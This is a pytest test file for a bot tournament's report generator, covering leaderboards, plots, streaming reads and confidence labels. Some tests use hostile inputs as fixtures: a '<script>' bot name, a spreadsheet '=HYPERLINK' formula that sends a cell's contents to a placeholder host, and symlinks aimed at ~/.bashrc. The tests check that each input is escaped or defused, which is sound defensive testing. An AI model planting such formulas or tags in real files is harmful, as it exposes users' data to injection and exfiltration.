"""Reports from a small real run folder: every file written, self-contained HTML, clear errors,
the same numbers as the statistics of the whole table, read chunk by chunk."""

from __future__ import annotations

import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from test_stats import build_run

from arena.analysis import plots
from arena.analysis import stats as st
from arena.analysis.report import ReportError, plot_run, write_report
from arena.run.store import RunStore

PNG = b"\x89PNG\r\n\x1a\n"
BOTS = {"simple": "simple", "random": "random", "random-b": "random"}


@pytest.fixture(scope="module")
def run_tables():
    return build_run(BOTS, n_pairs=10)


def _write_run(folder: Path, games: pd.DataFrame, hands: pd.DataFrame | None, pairs_per_chunk: int = 4) -> Path:
    """A run folder as the runner leaves it: chunks of whole pairs stored through the store."""
    with RunStore.open_for_writing(folder) as store:
        for no, (_name, g) in enumerate(games.groupby("matchup", sort=False)):
            los = range(0, int(g["pair"].max()) + 1, pairs_per_chunk)
            store.register(f"m{no}", str(g["bot_a"].iloc[0]), str(g["bot_b"].iloc[0]), len(g), len(los), {})
            for c, lo in enumerate(los):
                part = g[(g["pair"] >= lo) & (g["pair"] < lo + pairs_per_chunk)]
                h = None if hands is None else hands[hands["game_id"].isin(part["game_id"])]
                store.put_chunk(f"m{no}", c, part, h)
        if len(games) == 0:
            store.register("m0", "simple", "random", 20, 3, {})
        store.write_text("rules.toml", "target = 100\nknock_limit = 10\n")
        store.write_text("config.toml", 'bots = ["simple", "random", "random-b"]\npairs = 10\n')
        store.write_manifest({"run": folder.name, "seed": 1000, "games": len(games)})
    return folder


def test_write_report_writes_every_file(tmp_path, run_tables):
    games, hands = run_tables
    run = _write_run(tmp_path / "small-run", games, hands)
    files = write_report(run)
    for key in ("report_md", "report_html", "leaderboard", "pairs"):
        assert files[key].is_file() and files[key].stat().st_size > 0, key
    for kind in plots.KINDS:
        png = files[f"plot_{kind}"]
        assert png.parent == run / "plots" and png.read_bytes()[:8] == PNG, kind

    page = files["report_html"].read_text()
    assert page.count("data:image/png;base64,") == len(plots.KINDS)
    # self-contained: nothing fetched from elsewhere
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:|//|plots/)""", page)
    assert "<link" not in page and "<script" not in page

    lb = pd.read_csv(files["leaderboard"])
    assert len(lb) == 3 and sorted(lb["bot"]) == sorted(BOTS)
    assert lb["rank"].tolist() == [1, 2, 3] and lb.loc[0, "bot"] == "simple"
    assert lb["elo"].is_monotonic_decreasing
    assert lb["elo"].mean() == pytest.approx(0.0, abs=1e-6)  # default anchor: mean 0
    pairs = pd.read_csv(files["pairs"])
    assert sorted(pairs["matchup"]) == sorted(games["matchup"].unique())
    assert (pairs["games"] == 20).all()

    md = files["report_md"].read_text()
    for kind in plots.KINDS:
        assert f"(plots/{kind}.png)" in md
    assert "| simple |" in md and "small-run" in md and "knock_limit = 10" in md


def test_report_without_hands_and_with_anchor(tmp_path, run_tables):
    games, _ = run_tables
    run = _write_run(tmp_path / "no-hands", games, None)
    files = write_report(run, anchor="random")
    lb = pd.read_csv(files["leaderboard"]).set_index("bot")
    assert lb.loc["random", "elo"] == 0.0 and lb.loc["simple", "elo"] > 0
    assert "points_per_hand_won" not in lb.columns
    assert "no hands recorded" in files["report_md"].read_text()
    with pytest.raises(ReportError, match="anchor"):
        write_report(run, anchor="nobody")


def test_arena_report_takes_an_anchor_bot_and_says_which_intervals_it_shows(tmp_path, run_tables):
    """The report's default intervals are for comparing two bots (quasi standard errors, see stats); a
    reader who wants every bot against one reference names it with ``--anchor``."""
    from typer.testing import CliRunner

    from arena.cli.main import app

    games, hands = run_tables
    run = _write_run(tmp_path / "anchored", games, hands)
    out = CliRunner().invoke(app, ["report", str(run)])
    assert out.exit_code == 0, out.output
    md = (run / "report.md").read_text()
    assert re.search(
        r"\*\*rating anchor\*\*: mean of all bots = 0; intervals compare two bots \(quasi standard "
        r"errors: a difference's error within \d+%\)",
        md,
    ), md
    assert "95% comparison intervals" in md
    out = CliRunner().invoke(app, ["report", str(run), "--anchor", "random"])
    assert out.exit_code == 0, out.output
    md = (run / "report.md").read_text()
    assert "**rating anchor**: 'random' = 0\n" in md and "comparison intervals" not in md
    lb = pd.read_csv(run / "leaderboard.csv").set_index("bot")
    assert lb.loc["random", "elo"] == 0.0 and lb.loc["random", "elo_se"] == 0.0
    out = CliRunner().invoke(app, ["report", str(run), "--anchor", "nobody"])
    assert out.exit_code == 2 and out.output.count("error:") == 1 and "anchor bot 'nobody'" in out.output, out.output


def test_plot_run_each_kind(tmp_path, run_tables):
    games, hands = run_tables
    run = _write_run(tmp_path / "plots-run", games, hands)
    assert len(plots.KINDS) == 6
    drawn = []
    for kind in plots.KINDS:
        path = plot_run(run, kind)
        assert path == run / "plots" / f"{kind}.png" and path.read_bytes()[:8] == PNG, kind
        drawn.append(path.read_bytes())
    assert len(set(drawn)) == len(plots.KINDS)  # six different figures, not one drawn six times
    assert sorted(p.name for p in (run / "plots").iterdir()) == sorted(f"{k}.png" for k in plots.KINDS)
    with pytest.raises(ValueError, match="unknown plot"):
        plot_run(run, "pie")


def test_a_hostile_bot_name_is_shown_not_run(tmp_path):
    # A bot name is the config's to choose: a pipe must not split a Markdown cell, a tag must not reach the page.
    name = "a|b<script>"
    games, hands = build_run({"simple": "simple", name: "random"}, n_pairs=4)
    files = write_report(_write_run(tmp_path / "hostile", games, hands))
    md = files["report_md"].read_text()
    board = [line for line in md.split("## Leaderboard")[1].split("\n\n")[1].split("\n") if line.startswith("| ")]
    width = board[0].count(" | ")
    for line in board:  # every row of the leaderboard has as many cells as its header
        assert len(re.findall(r"(?<!\\) \| ", line)) == width, line
    assert any("| a\\|b\\<script\\> |" in line for line in board)
    assert not re.search(r"(?<!\\)<script", md)
    page = files["report_html"].read_text()
    assert "<script" not in page and "a|b&lt;script&gt;" in page
    assert pd.read_csv(files["leaderboard"])["bot"].tolist().count(name) == 1


def test_missing_or_empty_run_folder(tmp_path, run_tables):
    games, _ = run_tables
    cases = {
        "absent": tmp_path / "does-not-exist",
        "empty": tmp_path / "empty",
        "no-games": tmp_path / "no-games",
    }
    cases["empty"].mkdir()
    _write_run(cases["no-games"], games.iloc[:0], None)
    for name, folder in cases.items():
        with pytest.raises(ReportError) as info:
            write_report(folder)
        msg = str(info.value)
        assert str(folder) in msg and "\n" not in msg, (name, msg)
        assert isinstance(info.value, ValueError)
        assert not (folder / "report.html").exists()


def test_report_streams_the_store_and_matches_the_whole_table(tmp_path, run_tables, monkeypatch):
    """The report reads chunk by chunk (never the whole table) and its CSVs equal the whole-table statistics."""
    games, hands = run_tables
    run = _write_run(tmp_path / "streamed", games, hands, pairs_per_chunk=3)

    def whole(*args, **kwargs):
        raise AssertionError("the report loaded every game at once")

    monkeypatch.setattr(RunStore, "games", whole)
    monkeypatch.setattr(RunStore, "hands", whole)
    seen: list[tuple[int, int]] = []
    files = write_report(run, progress=lambda done, total: seen.append((done, total)))
    n_chunks = 3 * 4  # three matchups of 10 pairs, 3 pairs a chunk
    assert seen == [(i, n_chunks) for i in range(1, n_chunks + 1)]

    lb = pd.read_csv(files["leaderboard"])
    want = st.leaderboard(games, hands)
    assert lb["bot"].tolist() == want["bot"].tolist()
    for col in (
        "elo",
        "elo_ci_low",
        "win_rate",
        "win_rate_ci_high",
        "points_per_hand",
        "points_per_hand_won",
        "knock_deadwood",
        "discard_take_rate",
    ):
        assert lb[col].to_numpy() == pytest.approx(want[col].to_numpy(), rel=1e-9, nan_ok=True), col
    pairs = pd.read_csv(files["pairs"]).set_index("matchup")
    want = st.pair_stats(games).set_index("matchup")
    for col in ("wins_a", "sweeps_a", "win_rate_ci_low", "margin_ci_high", "sign_p", "margin_sd"):
        assert pairs.loc[want.index, col].to_numpy() == pytest.approx(want[col].to_numpy(), rel=1e-9, nan_ok=True), col


def test_a_bot_that_forfeits_every_game_shows_no_margin_and_its_opponents_margins_are_marked(tmp_path, run_tables):
    """A forfeited game is stored 0-0: a bot forfeiting every game had a margin of +0.0, ahead of a bot that
    played and lost.  Its margin and points read "-", and every figure forfeits count 0-0 in is marked with a
    note saying so; a matchup without forfeits is shown as it was."""
    games, _ = run_tables
    games = games.copy()
    mine = (games["bot_a"] == "random-b") | (games["bot_b"] == "random-b")  # every game of random-b: forfeited
    seat = np.where(games["bot0"] == "random-b", 0, 1).astype(np.int8)
    other = np.where(seat == 0, games["bot1"], games["bot0"])
    games.loc[mine, "forfeit_seat"] = seat[mine]
    games.loc[mine, "winner_seat"] = (1 - seat)[mine]
    games.loc[mine, "winner"] = other[mine]
    games.loc[mine, ["score0", "score1", "hands"]] = [0, 0, 1]
    games.loc[mine, "error"] = "bot 'random-b' discarded a card it does not hold in discard()"
    run = _write_run(tmp_path / "forfeits", games, None)
    md = write_report(run)["report_md"].read_text()

    def rows(section: str, key: int) -> dict[str, list[str]]:
        lines = md.split(f"## {section}\n")[1].split("\n## ")[0].splitlines()
        return {line.strip(" |").split(" | ")[key]: line.strip(" |").split(" | ") for line in lines if line[:2] == "| "}

    bots = rows("Leaderboard", 1)
    assert bots["random-b"][8:11] == ["-", "-", "40"]  # pts/hand, margin/game, forfeits
    assert bots["simple"][9].endswith("\\*") and bots["random"][9].endswith("\\*")
    pairs = rows("Matchups", 0)
    assert pairs["random vs random-b"][8:] == ["-", "-"] and pairs["simple vs random-b"][8:] == ["-", "-"]
    assert not pairs["simple vs random"][8].endswith("*") and pairs["simple vs random"][8] != "-"
    assert "forfeited games count 0–0 in this figure" in md


def test_a_running_manifest_with_no_run_holding_the_folder_reads_as_interrupted(tmp_path, run_tables):
    """A run killed outright (kill -9) leaves "running" in manifest.json, but its lock went with it: the
    report says the run was interrupted and how to resume it, and "running" only while a run holds the folder."""
    games, _ = run_tables
    run = _write_run(tmp_path / "killed", games, None)
    with RunStore.open_for_writing(run) as store:
        store.write_manifest({"run": "killed", "status": "running"})
    md = write_report(run)["report_md"].read_text()
    assert "- **run status**: interrupted (no run holds the folder; resume with the same command)" in md
    with RunStore.open_for_writing(run, what="arena run"):  # a live run holds the folder
        md = write_report(run)["report_md"].read_text()
    assert "- **run status**: running" in md and "interrupted" not in md


def test_report_leaves_out_a_corrupted_chunk_and_says_so(tmp_path, run_tables):
    games, hands = run_tables
    run = _write_run(tmp_path / "flipped", games, None, pairs_per_chunk=5)
    chunk = sorted((run / "games").rglob("*.parquet"))[0]
    data = bytearray(chunk.read_bytes())
    data[len(data) // 2] ^= 0xFF
    chunk.write_bytes(bytes(data))
    files = write_report(run)
    md = files["report_md"].read_text()
    assert "failed their checksum" in md and chunk.name in md
    pairs = pd.read_csv(files["pairs"])
    assert pairs["games"].sum() == len(games) - 10  # the five pairs of that chunk are not counted


# --- the ratings plot's broken axis and the tables' numbers -------------------------------------

# The default round robin's ratings (Elo, 95% interval) from a real run: random far below the field.
DEFAULT_RUN = {
    "gin-chasing": (341, 392),
    "knock5": (280, 332),
    "early-knock": (231, 282),
    "discard-tracking": (185, 236),
    "simple": (147, 199),
    "random": (-1439, -1185),
}


def test_a_bot_far_below_the_field_breaks_the_ratings_axis_so_the_field_keeps_its_width():
    lo, hi = (np.array([v[i] for v in DEFAULT_RUN.values()], dtype=float) for i in (0, 1))
    spans = plots.axis_spans(lo, hi)
    assert len(spans) == 2
    (a0, b0), (a1, b1) = spans
    assert a0 < -1439 and -1185 < b0 < 147 and a1 < 147 and b1 > 392  # random alone, then the field
    assert (392 - 147) / (b1 - a1) > 0.8  # the field spans most of its panel (was 5% of one axis)
    # bots spread evenly, or a gap no wider than the bots' own spread: one axis, as before
    assert len(plots.axis_spans(np.array([-300.0, -100, 100]), np.array([-200.0, 0, 200]))) == 1
    assert len(plots.axis_spans(np.array([0.0, 700]), np.array([400.0, 1100]))) == 1
    # one far above and one far below: three panels, in order
    three = plots.axis_spans(np.array([-2000.0, 0, 10, 3000]), np.array([-1900.0, 50, 60, 3100]))
    assert len(three) == 3 and three[0][1] < three[1][0] and three[1][1] < three[2][0]


def test_the_ratings_figure_draws_every_bot_in_the_panel_of_its_span(run_tables):
    """On a real run's summary (random far below simple), the figure's panels are the spans, and each
    bot's point lies in exactly one of them."""
    games, hands = run_tables
    p = st.summarize(games, hands)
    bt = st.bradley_terry(p)
    spans = plots.axis_spans(bt["elo_ci_low"].to_numpy(), bt["elo_ci_high"].to_numpy())
    fig = plots._ratings(p)
    axes = fig.axes
    assert [tuple(ax.get_xlim()) for ax in axes] == [pytest.approx(s) for s in spans]
    for e in bt["elo"]:
        assert sum(a <= e <= b for a, b in (ax.get_xlim() for ax in axes)) == 1, e


def test_the_reports_numbers_stay_on_one_line_in_a_narrow_window(browser, run_tables):
    """The page wraps text anywhere (long bot names), which once split numbers like 1,334:7,883
    across lines; right-aligned cells now never wrap, in the report as in a sweep's report."""
    from arena.analysis import report as rp
    from arena.analysis.render import Table, html_page, html_table

    ps = st.pair_stats(run_tables[0])
    wide = Table(
        ["matchup", "sweeps", "95% CI", "W-L-D"],
        [["discard-tracking vs knock5", "1,334:7,883", "[-27.3, -24.0]", "1,343-2,657-0"]] * 3,
        "lrrr",
    )

    def wrapped(css: str) -> list[str]:
        page = browser.new_page(viewport={"width": 420, "height": 800})
        page.set_content(html_page("t", [html_table(rp._pairs_table(ps)), html_table(wide)], css))
        out = page.evaluate(
            """() => [...document.querySelectorAll('td.r')].filter(td => {
                const r = document.createRange(); r.selectNodeContents(td); return r.getClientRects().length > 1
            }).map(td => td.textContent)"""
        )
        page.close()
        return out

    assert wrapped(rp._CSS) == []
    before = rp._CSS.replace("th,td{overflow-wrap:normal}", "").replace("td.r{white-space:nowrap}", "")
    assert "1,334:7,883" in wrapped(before)  # the page's rules as they were split it (and the intervals)


def test_a_bot_name_with_dollar_signs_is_drawn_as_text_not_read_as_mathtext(tmp_path):
    # matplotlib reads $...$ as mathtext: '$\nope{x}$' raised ParseFatalException from every figure, so
    # neither the report nor any plot was written; 'a$b' and 'c$d' side by side would set 'b ... c' as math.
    name = "$\\nope{x}$"
    games, hands = build_run({"simple": "simple", name: "random"}, n_pairs=4)
    files = write_report(_write_run(tmp_path / "dollars", games, hands))
    for kind in plots.KINDS:
        assert files[f"plot_{kind}"].read_bytes()[:8] == PNG, kind
    fig = plots.figure("heatmap", games, hands)
    try:
        labels = [t.get_text() for t in fig.axes[0].get_yticklabels()]
        assert name in labels
        fig.canvas.draw()  # drawn later (a notebook shows it): still plain text
    finally:
        plots.plt.close(fig)


def test_the_convergence_plots_log_axis_is_labelled_with_plain_numbers(run_tables):
    """Its default labels are mathtext ('$\\mathdefault{10^{2}}$'), which the figures turn off for bot names:
    the report showed that source text under every panel."""
    games, hands = run_tables
    fig = plots.figure("convergence", games, hands)
    try:
        fig.canvas.draw()
        labels = [t.get_text() for ax in fig.axes if ax.get_visible() for t in ax.get_xticklabels()]
        assert labels and not [t for t in labels if "$" in t or "mathdefault" in t], labels
        assert {"10", "100"} & set(labels), labels
    finally:
        plots.plt.close(fig)


def test_a_report_replaces_a_link_in_the_run_folder_and_never_writes_through_it(tmp_path, run_tables):
    # A run folder from elsewhere (a tarball, a shared results/) may hold report.html -> ~/.bashrc: writing
    # through the link put the page (and pairs.csv's lines, which start with a bot name) into that file.
    games, hands = run_tables
    run = _write_run(tmp_path / "linked", games, hands)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    names = ["report.html", "report.md", "leaderboard.csv", "pairs.csv", "plots/heatmap.png"]
    (run / "plots").mkdir()
    for name in names:
        (run / name).symlink_to(victim)
    files = write_report(run)
    assert victim.read_text() == "precious\n"
    for name in names:
        assert not (run / name).is_symlink() and (run / name).stat().st_size > 0, name
    assert files["plot_heatmap"].read_bytes()[:8] == PNG
    (run / "plots" / "ratings.png").unlink()
    (run / "plots" / "ratings.png").symlink_to(victim)
    plot_run(run, "ratings")
    assert victim.read_text() == "precious\n" and (run / "plots" / "ratings.png").read_bytes()[:8] == PNG


def test_a_report_replaces_a_linked_plots_folder_and_writes_no_figure_into_its_target(tmp_path, run_tables):
    # write_file replaces a link at a file's own name, but plots/ -> ~/Pictures put every figure into
    # that folder, over the user's heatmap.png.
    games, hands = run_tables
    run = _write_run(tmp_path / "linked-plots", games, hands)
    pictures = tmp_path / "Pictures"
    pictures.mkdir()
    (pictures / "heatmap.png").write_bytes(b"holiday")
    (run / "plots").symlink_to(pictures, target_is_directory=True)
    files = write_report(run)
    assert [p.name for p in pictures.iterdir()] == ["heatmap.png"]
    assert (pictures / "heatmap.png").read_bytes() == b"holiday"
    assert not (run / "plots").is_symlink() and files["plot_heatmap"].read_bytes()[:8] == PNG
    (run / "plots").rename(tmp_path / "plots-before")
    (run / "plots").symlink_to(pictures, target_is_directory=True)
    plot_run(run, "ratings")
    assert [p.name for p in pictures.iterdir()] == ["heatmap.png"]
    assert (run / "plots" / "ratings.png").read_bytes()[:8] == PNG


def test_csv_cells_of_names_a_spreadsheet_would_run_are_quoted_and_numbers_stay_numbers(tmp_path):
    # A loaded bot can't be named "=..", but a run folder from elsewhere holds whatever names its
    # files say: "=HYPERLINK(..)" in leaderboard.csv runs when the table is opened.
    evil = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
    games, hands = build_run({evil: "random", "@sum": "random", "simple": "simple"}, n_pairs=4)
    run = _write_run(tmp_path / "formula-names", games, hands)
    files = write_report(run)
    for key in ("leaderboard", "pairs"):
        table = pd.read_csv(files[key])
        cells = [str(v) for col in table.columns if table[col].dtype.kind == "O" for v in table[col]]
        assert cells and not [c for c in cells if c[:1] in "=+-@"], key
        assert "'" + evil in cells, key
        numeric = [c for c in table.columns if table[c].dtype.kind == "f"]
        assert numeric, f"{key} has no numeric column left"
    board = pd.read_csv(files["leaderboard"])
    assert {"'" + evil, "'@sum", "simple"} <= set(board["bot"])


def test_a_report_at_another_confidence_labels_its_tables_with_that_level_not_95(tmp_path, run_tables):
    # write_report(conf=0.9) wrote 90% intervals into the tables and CSVs under "95% CI" headers and a
    # Methods line saying "Intervals are 95%": a reader took them for wider, surer intervals than they were.
    games, hands = run_tables
    run = _write_run(tmp_path / "conf90", games, hands)
    files = write_report(run, conf=0.9)
    pairs = pd.read_csv(files["pairs"]).set_index("matchup")
    want = st.pair_stats(games, conf=0.9).set_index("matchup")
    assert pairs.loc[want.index, "win_rate_ci_low"].to_numpy() == pytest.approx(want["win_rate_ci_low"].to_numpy())
    md = files["report_md"].read_text()
    tables = [line for line in md.splitlines() if line.startswith("| #") or line.startswith("| matchup")]
    assert len(tables) >= 3  # leaderboard, matchups, first mover
    for head in tables:
        assert "95%" not in head and "90% CI" in head, head
    assert "Intervals are 90%" in md and "Intervals are 95%" not in md
    page = files["report_html"].read_text()
    assert "90% CI" in page and "Intervals are 90%" in page


def test_a_run_without_duplicate_pairs_is_described_with_games_as_its_units_not_pairs(tmp_path, run_tables):
    """A run with duplicate = false read "duplicate pairs: 300 (0 complete)", a Methods line saying the two
    games of a duplicate pair are one sampling unit, and a control variate "per duplicate pair": its numbers
    were right (each game is its own unit) but the words claimed a pairing the run did not have."""
    from arena.run.runner import run_tournament
    from arena.settings.config import TournamentConfig

    cfg = TournamentConfig(
        name="single", bots=("simple", "random"), games_per_pair=300, duplicate=False, chunk_size=300,
        seed=7, workers=1, results_dir=str(tmp_path),
    )  # fmt: skip
    assert run_tournament(cfg, progress=False).status == "complete"
    files = write_report(tmp_path / "single")
    md, page = files["report_md"].read_text(), files["report_html"].read_text()
    for text in (md, page):
        assert "duplicate pairs" in text and "none: each game is its own sampling unit" in text
        assert "0 complete" not in text
        assert "the two games of a duplicate pair" not in text and "this run has no duplicate pairs" in text
        assert "per duplicate pair" not in text and "per game (the run has no duplicate pairs" in text
        assert "each half of the games" in text and "each half of the pairs" not in text
    # a run with duplicate pairs keeps their words
    paired = write_report(_write_run(tmp_path / "paired", *run_tables))["report_md"].read_text()
    assert "(30 complete)" in paired and "the two games of a duplicate pair" in paired
    assert "per duplicate pair" in paired and "no duplicate pairs" not in paired


def test_the_control_variate_table_names_a_999_level_as_the_other_tables_do_not_100(tmp_path, run_tables):
    # f"{conf:.0%}" made 0.999 "100% CI", an interval that would be certain; the other tables said "99.9% CI".
    run = _write_run(tmp_path / "conf999", *run_tables)
    md = write_report(run, conf=0.999)["report_md"].read_text()
    section = md.split("the deal control variate")[1]
    head = next(line for line in section.splitlines() if line.startswith("| matchup"))
    assert head.count("99.9% CI") == 2, head
    assert "100%" not in head
